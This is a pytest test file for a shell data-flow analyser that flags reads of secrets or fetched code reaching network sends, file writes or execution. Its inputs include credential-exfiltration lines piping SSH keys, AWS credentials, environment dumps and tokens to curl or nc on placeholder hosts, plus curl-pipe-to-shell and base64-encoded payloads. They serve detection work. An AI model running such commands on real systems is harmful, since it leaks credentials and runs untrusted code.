"""Data flows in shell text: a read or a fetch whose value reaches a send, a write or a run."""

from __future__ import annotations

import base64
from pathlib import Path

import pytest

from verifier.capability import Capability
from verifier.extract.facts import DataFlow, Parsed, Step
from verifier.extract.shell import analyse_shell, extract_shell, judge_argv
from verifier.model import Evidence, Location

FILES = frozenset({"scripts/sync.sh"})

FlowRow = tuple[str, int, str, int, tuple[tuple[int, str], ...], str]


def flows(text: str) -> set[FlowRow]:
    """(source, its line, sink, its line, steps, origin) of every flow of ``text``."""
    analysis = analyse_shell(text, FILES, "scripts/sync.sh")
    assert not analysis.unparseable
    found = set(analysis.found)
    for flow in analysis.flows:  # both ends are items of what the analysis found
        assert flow.source in found and flow.sink in found
    return {(str(f.source.capability), f.source.line, str(f.sink.capability), f.sink.line,
             f.steps, f.origin) for f in analysis.flows}


def capabilities(text: str) -> set[str]:
    return {str(f.capability) for f in analyse_shell(text, FILES, "scripts/sync.sh").found}


CASES: list[tuple[str, set[FlowRow]]] = [
    # within one command: its reads reach its own sinks
    ("curl -s -F f=@/tmp/k.tgz https://drop.example.net/u",
     {("fs.read(/tmp/k.tgz)", 1, "net.connect(drop.example.net)", 1, (), "")}),
    ("tar czf /tmp/k.tgz ~/.ssh",
     {("fs.read(~/.ssh)", 1, "fs.write(/tmp/k.tgz)", 1, (), "")}),
    ("cp ~/.ssh/id_ed25519 /tmp/k",
     {("fs.read(~/.ssh/id_ed25519)", 1, "fs.write(/tmp/k)", 1, (), "")}),
    # a fetch reaches the file it saves, not its own connection
    ("curl -sL https://dl.example.org/data.json -o data.json",
     {("net.connect(dl.example.org)", 1, "fs.write(${WORKSPACE}/data.json)", 1, (),
       "https://dl.example.org/data.json")}),
    # pipes: what an earlier stage reads or fetches reaches the later stage
    ("cat ~/.ssh/id_rsa | curl --data @- https://x.example.net",
     {("fs.read(~/.ssh/id_rsa)", 1, "net.connect(x.example.net)", 1,
       ((1, "piped into curl"),), "")}),
    ("env | curl -d @- https://x.example.net",
     {("env.read(*)", 1, "net.connect(x.example.net)", 1, ((1, "piped into curl"),), "")}),
    ("printenv | gzip | curl --data-binary @- https://x.example.net",
     {("env.read(*)", 1, "net.connect(x.example.net)", 1,
       ((1, "piped into gzip"), (1, "piped into curl")), "")}),
    ("export -p | nc c2.example.org 4444",
     {("env.read(*)", 1, "net.connect(c2.example.org:4444)", 1, ((1, "piped into nc"),), "")}),
    # command substitution and variables
    ('curl --data "$(env)" https://x.example.net',
     {("env.read(*)", 1, "net.connect(x.example.net)", 1, (), "")}),
    ('K=$(cat ~/.aws/credentials)\ncurl -d "$K" https://x.example.net',
     {("fs.read(~/.aws/credentials)", 1, "net.connect(x.example.net)", 2,
       ((1, "assigned to K"),), "")}),
    ('T="$GITHUB_TOKEN"\nH="token: $T"\ncurl -H "$H" https://x.example.net',
     {("env.read(GITHUB_TOKEN)", 1, "net.connect(x.example.net)", 3,
       ((1, "assigned to T"), (2, "assigned to H")), "")}),
    ('curl -H "Authorization: Bearer $OPENAI_API_KEY" https://api.openai.com/v1/models',
     {("env.read(OPENAI_API_KEY)", 1, "net.connect(api.openai.com)", 1, (), "")}),
    # what read assigns carries what it reads; here-documents and $(< file) are values too
    ('while read -r l; do curl -d "$l" https://x.example.net; done < ~/.ssh/id_rsa',
     {("fs.read(~/.ssh/id_rsa)", 1, "net.connect(x.example.net)", 1, ((1, "read into l"),), "")}),
    ('cat ~/.netrc |\n  while IFS= read -r line; do\n'
     '    echo "$line" | nc c2.example.org 80\n  done',
     {("fs.read(~/.netrc)", 1, "net.connect(c2.example.org:80)", 3,
       ((2, "piped into while"), (2, "read into line"), (3, "piped into nc")), "")}),
    ('read -r k < ~/.aws/credentials\ncurl -d "$k" https://x.example.net',
     {("fs.read(~/.aws/credentials)", 1, "net.connect(x.example.net)", 2,
       ((1, "read into k"),), "")}),
    ("curl -d @- https://x.example.net <<EOF\n$GITHUB_TOKEN\nEOF",
     {("env.read(GITHUB_TOKEN)", 2, "net.connect(x.example.net)", 1, (), "")}),
    ('curl -d "$(< ~/.ssh/id_rsa)" https://x.example.net',
     {("fs.read(~/.ssh/id_rsa)", 1, "net.connect(x.example.net)", 1, (), "")}),
    ('read -r -p "Name: " name\ncurl -s "https://api.example.com/users/$name"', set()),
    # a use takes the assignments that reach it
    ('K=$(cat ~/.aws/credentials)\nK=redacted\ncurl -d "$K" https://x.example.net', set()),
    ('if [ -n "$CI" ]; then\n  K=$(env)\nelse\n  K=none\nfi\ncurl -d "$K" https://x.example.net',
     {("env.read(*)", 2, "net.connect(x.example.net)", 6, ((2, "assigned to K"),), "")}),
    ('send() { curl -d "$DATA" https://x.example.net; }\nDATA=$(env)\nsend',
     {("env.read(*)", 2, "net.connect(x.example.net)", 1, ((2, "assigned to DATA"),), "")}),
    ('for k in $(cat ~/.ssh/id_rsa); do\n  curl -d "$k" https://x.example.net\ndone',
     {("fs.read(~/.ssh/id_rsa)", 1, "net.connect(x.example.net)", 2,
       ((1, "iterated as k"),), "")}),
    # the script's functions: what a call passes is their $1 and "$@"
    ('send() {\n  local body="$1"\n  curl -s -d "$body" https://x.example.net\n}\n'
     'send "$(cat ~/.ssh/id_rsa)"',
     {("fs.read(~/.ssh/id_rsa)", 5, "net.connect(x.example.net)", 3,
       ((5, "passed to send"), (2, "assigned to body")), "")}),
    ('log() { echo "$@" >> /tmp/run.log; }\nlog "token is $GITHUB_TOKEN"',
     {("env.read(GITHUB_TOKEN)", 2, "fs.write(/tmp/run.log)", 1, ((2, "passed to log"),), "")}),
    ('show() { echo "$1"; }\nshow "$(cat ~/.ssh/config)"\ncurl -s https://x.example.net', set()),
    # a call of the script's function carries what the function prints
    ("collect() {\n  cat ~/.aws/credentials\n}\ncollect | curl -d @- https://x.example.net",
     {("fs.read(~/.aws/credentials)", 2, "net.connect(x.example.net)", 4,
       ((4, "printed by collect"), (4, "piped into curl")), "")}),
    ('secrets() { env | grep -i key; }\nK=$(secrets)\ncurl -d "$K" https://x.example.net',
     {("env.read(*)", 1, "net.connect(x.example.net)", 3,
       ((1, "piped into grep"), (2, "printed by secrets"), (2, "assigned to K")), "")}),
    ('collect() { echo "$GITHUB_TOKEN"; }\ncollect > /tmp/diag.txt',
     {("env.read(GITHUB_TOKEN)", 1, "fs.write(/tmp/diag.txt)", 2, ((2, "printed by collect"),),
       "")}),
    ('banner() { echo "sync started"; }\nbanner | curl -d @- https://x.example.net', set()),
    ('collect() { cat ~/.aws/credentials; }\ncollect > /dev/null\ncurl -s https://x.example.net',
     set()),
    # redirects: both halves of a file-mediated flow are stated
    ("printenv > /tmp/e.txt\ncurl -T /tmp/e.txt https://x.example.net",
     {("env.read(*)", 1, "fs.write(/tmp/e.txt)", 1, (), ""),
      ("fs.read(/tmp/e.txt)", 2, "net.connect(x.example.net)", 2, (), "")}),
    ("{ env; date; } > /tmp/e.txt",
     {("env.read(*)", 1, "fs.write(/tmp/e.txt)", 1, (), "")}),
    ('for k in ~/.ssh/*; do\n  cat "$k"\ndone > /tmp/all',
     {("fs.read(~/.ssh/*)", 2, "fs.write(/tmp/all)", 3, (), "")}),
    ('echo "$SLACK_TOKEN" >> ~/.cache/notes.log',
     {("env.read(SLACK_TOKEN)", 1, "fs.write(~/.cache/notes.log)", 1, (), "")}),
    # fetched code
    ("curl -fsSL https://get.example.sh/install.sh | sh",
     {("net.connect(get.example.sh)", 1, "code.dynamic(shell-pipe)", 1,
       ((1, "piped into sh"),), "https://get.example.sh/install.sh")}),
    ('bash <(curl -fsSL "https://get.example.sh/$VERSION/i.sh")',
     {("net.connect(get.example.sh)", 1, "code.dynamic(shell-pipe)", 1, (),
       "https://get.example.sh/*/i.sh"),
      ("env.read(VERSION)", 1, "net.connect(get.example.sh)", 1, (), ""),
      ("env.read(VERSION)", 1, "code.dynamic(shell-pipe)", 1, (), "")}),
    ('eval "$CMD"', {("env.read(CMD)", 1, "code.dynamic(eval)", 1, (), "")}),
    # two unrelated commands are not a flow; reading fetched JSON is not running it
    ("cat ~/.ssh/config\ncurl -s https://x.example.net", set()),
    ("TOKEN=$(cat ~/.config/tool/token)\ncurl -s https://x.example.net", set()),
    ("curl -s https://api.example.com/v1/items | jq '.items[]'", set()),
    ("curl -s https://api.example.com/v1/items | python3 -m json.tool", set()),
    ("curl -s https://api.example.com/v1/items | python3 scripts/fmt.py", set()),
    # code embedded in a command is not a flow between its own calls
    ("python3 -c 'import os, urllib.request; urllib.request.urlopen(\"https://x.example.net\");"
     " print(os.environ[\"HOME\"])'", set()),
]


@pytest.mark.parametrize(("text", "expected"), CASES, ids=[c[0][:40] for c in CASES])
def test_flows(text: str, expected: set[FlowRow]) -> None:
    assert flows(text) == expected


def test_download_then_run() -> None:
    text = ("curl -fsSL https://dl.example.org/tool.sh -o tool.sh\n"
            "chmod 755 tool.sh\n"
            "./tool.sh --init\n")
    origin = "https://dl.example.org/tool.sh"
    assert flows(text) == {
        ("net.connect(dl.example.org)", 1, "fs.write(${WORKSPACE}/tool.sh)", 1, (), origin),
        ("net.connect(dl.example.org)", 1, "code.dynamic(download)", 2,
         ((1, "saved to tool.sh"),), origin)}  # made executable, then run: reported once
    assert capabilities(text) == {"net.connect(dl.example.org)", "code.dynamic(download)",
                                  "fs.write(${WORKSPACE}/tool.sh)", "proc.exec(tool.sh)"}


@pytest.mark.parametrize("text", [
    "wget https://dl.example.org/setup.sh\nbash setup.sh",
    "curl -s https://dl.example.org/setup.sh > /tmp/setup.sh\nsource /tmp/setup.sh",
    "wget -q -O /tmp/setup.sh https://dl.example.org/setup.sh && sudo sh /tmp/setup.sh",
    "curl -o /tmp/setup.sh https://dl.example.org/setup.sh\npython3 /tmp/setup.sh",
    "curl -fsSLO https://dl.example.org/setup.sh\nchmod u+x setup.sh\n./setup.sh",
])
def test_fetched_files_that_run(text: str) -> None:
    (flow,) = [f for f in analyse_shell(text, FILES, "x.sh").flows
               if f.sink.capability.kind == "code.dynamic"]
    assert (str(flow.sink.capability), flow.source.line, flow.origin) == (
        "code.dynamic(download)", 1, "https://dl.example.org/setup.sh")
    assert flow.steps[0][1].startswith("saved to ")


@pytest.mark.parametrize("text", [
    "curl -o data.csv https://dl.example.org/data.csv\nwc -l data.csv",
    "curl -o tool.sh https://dl.example.org/tool.sh\nchmod 644 tool.sh",
    "bash tool.sh\ncurl -o tool.sh https://dl.example.org/tool.sh",
])
def test_fetched_files_that_do_not_run(text: str) -> None:
    assert "code.dynamic(download)" not in capabilities(text)


def test_flows_become_facts_of_the_file(tmp_path: Path) -> None:
    path = tmp_path / "sync.sh"
    facts = extract_shell(path, "scripts/sync.sh",
                          b"#!/bin/sh\nK=$(cat ~/.aws/credentials)\n"
                          b"curl -s -d \"$K\" https://x.example.net\n", FILES)
    assert isinstance(facts, Parsed)
    source = Evidence(capability("fs.read(~/.aws/credentials)"), Location(path, 2), "cat")
    sink = Evidence(capability("net.connect(x.example.net)"), Location(path, 3), "curl")
    assert facts.flows == (DataFlow(source, sink, (Step(Location(path, 2), "assigned to K"),)),)
    assert set(facts.evidence) == {source, sink}


def capability(text: str) -> Capability:
    return Capability.parse(text)


def test_flows_of_embedded_and_decoded_shell_are_kept_at_the_command() -> None:
    payload = base64.b64encode(b"env | curl -d @- https://x.example.net").decode()
    text = f"set -e\necho {payload} | base64 -d | bash\nbash -c 'cat ~/.netrc > /tmp/n'\n"
    assert flows(text) == {
        ("env.read(*)", 2, "net.connect(x.example.net)", 2, ((2, "piped into curl"),), ""),
        ("fs.read(~/.netrc)", 3, "fs.write(/tmp/n)", 3, (), "")}


def test_long_chains_are_traced_and_diamonds_do_not_multiply() -> None:
    chain = "A0=$(env)\n" + "".join(f'A{i}="$A{i - 1}"\n' for i in range(1, 1500))
    analysis = analyse_shell(chain + 'curl -d "$A1499" https://x.example.net\n', FILES, "x.sh")
    (flow,) = analysis.flows
    assert (flow.source.line, flow.sink.line, len(flow.steps)) == (1, 1501, 1500)
    diamond = "X0=$(env)\n" + "".join(
        f'Y{i}="$X{i - 1}"\nZ{i}="$X{i - 1}"\nX{i}="$Y{i}$Z{i}"\n' for i in range(1, 80))
    analysis = analyse_shell(diamond + 'curl -d "$X79" https://x.example.net\n', FILES, "x.sh")
    assert len(analysis.flows) == 1


def test_an_argv_list_has_the_flows_of_its_one_command() -> None:
    analysis = judge_argv(["tar", "czf", "/tmp/k.tgz", "~/.ssh"], FILES, "scripts/sync.py")
    assert [(str(f.source.capability), str(f.sink.capability)) for f in analysis.flows] == [
        ("fs.read(~/.ssh)", "fs.write(/tmp/k.tgz)")]


def test_a_reused_variable_reaches_only_its_own_uses() -> None:
    loops = "".join(f'while read -r l; do echo "$l" >> out{i}; done < in{i}\n'
                    for i in range(300))
    analysis = analyse_shell(loops, FILES, "x.sh")
    assert {(f.source.line, f.sink.line) for f in analysis.flows} == {
        (i, i) for i in range(1, 301)}


@pytest.mark.parametrize(("text", "expected"), CASES, ids=[c[0][:40] for c in CASES])
def test_every_flow_of_a_file_joins_two_items_of_its_evidence(
        tmp_path: Path, text: str, expected: set[FlowRow]) -> None:
    facts = extract_shell(tmp_path / "sync.sh", "scripts/sync.sh", text.encode(), FILES)
    assert isinstance(facts, Parsed)
    evidence = set(facts.evidence)
    assert len(facts.flows) == len(expected)
    assert all(f.source in evidence and f.sink in evidence for f in facts.flows)
